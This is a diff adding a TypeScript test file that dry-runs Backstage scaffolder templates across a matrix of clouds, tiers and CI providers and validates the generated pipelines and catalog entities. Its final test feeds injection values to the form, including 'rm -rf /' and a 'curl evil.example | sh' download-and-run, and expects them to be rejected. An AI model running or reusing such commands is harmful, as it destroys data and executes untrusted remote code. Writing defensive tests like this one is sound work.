@@ -1,0 +1,269 @@
+import {
+  mockCredentials,
+  startTestBackend,
+} from '@backstage/backend-test-utils';
+import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
+import scaffolderPlugin from '@backstage/plugin-scaffolder-backend';
+import fs from 'node:fs';
+import path from 'node:path';
+import request from 'supertest';
+import { parse, parseAllDocuments } from 'yaml';
+import { validateCatalogEntity } from './catalog/annotateCatalogInfo';
+import { scaffolderModuleGoldenPipelines } from './module';
+import { CI_PROVIDERS, CLOUDS, TIERS } from './pipeline/model';
+import { REQUIRED_STAGES } from './pipeline/stages';
+import { validatePipelineFile } from './policy/validatePipeline';
+import {
+  actionlint,
+  workflowSchemaErrors,
+} from './__testUtils__/workflowLinters';
+
+const TEMPLATES_DIR = path.resolve(__dirname, '../../../templates');
+
+function directoryContents(dir: string, base = dir) {
+  const out: Array<{ path: string; base64Content: string }> = [];
+  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
+    const full = path.join(dir, entry.name);
+    if (entry.isDirectory()) out.push(...directoryContents(full, base));
+    else
+      out.push({
+        path: path.relative(base, full),
+        base64Content: fs.readFileSync(full).toString('base64'),
+      });
+  }
+  return out;
+}
+
+const BASE_VALUES: Record<string, Record<string, unknown>> = {
+  'api-service': {
+    name: 'pricing-quotes-api',
+    description: 'Quotes contract prices for trade customers (order-to-cash).',
+    owner: 'group:default/digital-channels',
+    system: 'customer-channels',
+    businessProcesses: ['order-to-cash'],
+    tenancy: 'shared',
+    tenantSegments: ['wholesale', 'retail'],
+    consumedApis: [{ api: 'sales-orders-api', range: '^2.4.0' }],
+    dependsOn: ['component:default/sales'],
+  },
+  'erp-integration-worker': {
+    name: 'supplier-invoice-sync',
+    description: 'Consumes supplier invoices and posts them to purchase.',
+    owner: 'group:default/procurement-systems',
+    businessProcesses: ['procure-to-pay', 'record-to-report'],
+    erpApi: 'purchase-orders-api',
+    erpApiRange: '>=2.0.0 <3.0.0',
+    erpComponent: 'component:default/purchase',
+    queue: 'supplier-invoices',
+    tenancy: 'dedicated',
+    dedicatedTenants: ['resource:default/kyoto-precision-components'],
+  },
+  'customer-web-app': {
+    name: 'order-tracking-web',
+    description: 'Lets trade customers follow their orders and deliveries.',
+    owner: 'group:default/order-management',
+    businessProcesses: ['order-to-cash'],
+    tenancy: 'shared',
+  },
+};
+
+/** Every cloud, tier and provider, each alone and the clouds together, per template. */
+function matrix() {
+  const rows: Array<{
+    clouds: string[];
+    tier: string;
+    ciProvider: string;
+    deployStrategy: string;
+  }> = [];
+  const strategies = ['rolling', 'canary', 'blue-green'];
+  const cloudSets = [...CLOUDS.map(c => [c]), [...CLOUDS]];
+  let i = 0;
+  for (const clouds of cloudSets) {
+    for (const tier of TIERS) {
+      for (const ciProvider of CI_PROVIDERS) {
+        rows.push({
+          clouds,
+          tier,
+          ciProvider,
+          deployStrategy: strategies[i++ % strategies.length],
+        });
+      }
+    }
+  }
+  return rows;
+}
+
+describe('golden templates through a real scaffolder dry run', () => {
+  let server: Awaited<ReturnType<typeof startTestBackend>>['server'];
+  const timings: Record<string, number[]> = {};
+
+  beforeAll(async () => {
+    ({ server } = await startTestBackend({
+      features: [
+        scaffolderPlugin,
+        scaffolderModuleGoldenPipelines,
+        catalogServiceMock.factory({ entities: [] }),
+      ],
+    }));
+  }, 60_000);
+
+  afterAll(() => {
+    const lines = Object.entries(timings).map(([t, ms]) => {
+      const sorted = [...ms].sort((a, b) => a - b);
+      return `${t}: ${ms.length} dry runs, median ${
+        sorted[Math.floor(sorted.length / 2)]
+      } ms, max ${sorted[sorted.length - 1]} ms`;
+    });
+    // The figure the issue asks for: dry-run time per template (target < 3 s).
+    // eslint-disable-next-line no-console
+    console.log(`Dry-run times\n${lines.join('\n')}`);
+  });
+
+  const templates = Object.keys(BASE_VALUES);
+  let actionlintChecked = 0;
+
+  describe.each(templates)('%s', templateName => {
+    const dir = path.join(TEMPLATES_DIR, templateName);
+    const template = parse(
+      fs.readFileSync(path.join(dir, 'template.yaml'), 'utf8'),
+    );
+    const contents = directoryContents(dir);
+
+    it.each(matrix())(
+      'renders for %o',
+      async row => {
+        const values = { ...BASE_VALUES[templateName], ...row };
+        const started = Date.now();
+        const res = await request(server)
+          .post('/api/scaffolder/v2/dry-run')
+          .set('Authorization', mockCredentials.user.header())
+          .send({ template, values, directoryContents: contents });
+        (timings[templateName] ??= []).push(Date.now() - started);
+        if (res.status !== 200) {
+          throw new Error(
+            `dry run answered ${res.status}: ${JSON.stringify(res.body)}`,
+          );
+        }
+        const failed = res.body.log
+          .map((l: { body: { status?: string; message: string } }) => l.body)
+          .filter((b: { status?: string }) => b.status === 'failed');
+        expect(failed).toEqual([]);
+        const files: Record<string, string> = Object.fromEntries(
+          res.body.directoryContents.map(
+            (f: { path: string; base64Content: string }) => [
+              f.path,
+              Buffer.from(f.base64Content, 'base64').toString('utf8'),
+            ],
+          ),
+        );
+
+        // The pipeline: one file for the chosen provider, policy-clean.
+        const pipelinePath =
+          row.ciProvider === 'github-actions'
+            ? '.github/workflows/golden-pipeline.yml'
+            : '.gitlab-ci.yml';
+        expect(Object.keys(files)).toContain(pipelinePath);
+        const pipeline = files[pipelinePath];
+        expect(() => parse(pipeline)).not.toThrow();
+        expect(
+          validatePipelineFile(pipelinePath, pipeline, row.tier as any),
+        ).toEqual([]);
+        if (row.ciProvider === 'github-actions') {
+          expect(workflowSchemaErrors(pipeline)).toEqual([]);
+          expect(await actionlint(pipeline)).toEqual([]);
+          actionlintChecked++;
+          const jobs = Object.keys(parse(pipeline).jobs);
+          for (const stage of REQUIRED_STAGES[row.tier as 'critical']) {
+            expect(
+              jobs.some(j => j === stage || j.startsWith(`${stage}-`)),
+            ).toBe(true);
+          }
+        } else {
+          const stages = parse(pipeline).stages;
+          expect(stages).toEqual([...REQUIRED_STAGES[row.tier as 'critical']]);
+        }
+
+        // The catalog entity, as the catalog would validate it.
+        const [entity] = parseAllDocuments(files['catalog-info.yaml']).map(d =>
+          d.toJS(),
+        );
+        await expect(validateCatalogEntity(entity)).resolves.toBeTruthy();
+        expect(entity.metadata.annotations['waybill.dev/tier']).toBe(row.tier);
+        expect(entity.spec.system).toBe(values.system);
+        expect(entity.spec.owner).toBe(values.owner);
+        expect(
+          entity.metadata.annotations['waybill.dev/business-processes'],
+        ).toBe((values.businessProcesses as string[]).join(', '));
+
+        // IaC stubs only for the chosen clouds; the rest of the repository.
+        for (const cloud of CLOUDS) {
+          expect(Object.keys(files).includes(`infra/${cloud}/main.tf`)).toBe(
+            row.clouds.includes(cloud),
+          );
+        }
+        for (const file of [
+          'Dockerfile',
+          'README.md',
+          'waybill/rollout-strategy.yaml',
+          'deploy/kubernetes/base/kustomization.yaml',
+          'deploy/kubernetes/base/deployment.yaml',
+          'deploy/kubernetes/overlays/production/kustomization.yaml',
+        ]) {
+          expect(Object.keys(files)).toContain(file);
+        }
+        for (const [file, text] of Object.entries(files)) {
+          if (/\.ya?ml$/.test(file)) {
+            for (const d of parseAllDocuments(text)) {
+              expect({ file, errors: d.errors.map(e => e.message) }).toEqual({
+                file,
+                errors: [],
+              });
+            }
+          }
+          expect({ file, leftover: text.includes('${{ values') }).toEqual({
+            file,
+            leftover: false,
+          });
+        }
+      },
+      30_000,
+    );
+  });
+
+  it('ran actionlint on every GitHub workflow', () => {
+    expect(actionlintChecked).toBe(templates.length * 12);
+  });
+
+  it('rejects, at the form, a name that could inject YAML or shell', async () => {
+    const dir = path.join(TEMPLATES_DIR, 'api-service');
+    const template = parse(
+      fs.readFileSync(path.join(dir, 'template.yaml'), 'utf8'),
+    );
+    for (const bad of [
+      { name: 'x"; rm -rf / #' },
+      { name: 'svc\nkind: Group' },
+      { description: 'Nice service $(curl evil.example | sh)' },
+      { description: 'Quotes: prices\nmetadata: {}' },
+      { clouds: ['aws', 'on-prem'] },
+      { tier: 'gold' },
+      { businessProcesses: ['order-to-cash', 'world-domination'] },
+    ]) {
+      const res = await request(server)
+        .post('/api/scaffolder/v2/dry-run')
+        .set('Authorization', mockCredentials.user.header())
+        .send({
+          template,
+          values: {
+            ...BASE_VALUES['api-service'],
+            tier: 'standard',
+            clouds: ['aws'],
+            ciProvider: 'github-actions',
+            deployStrategy: 'rolling',
+            ...bad,
+          },
+          directoryContents: directoryContents(dir),
+        });
+      expect({ bad, status: res.status }).toEqual({ bad, status: 400 });
+    }
+  });
+});
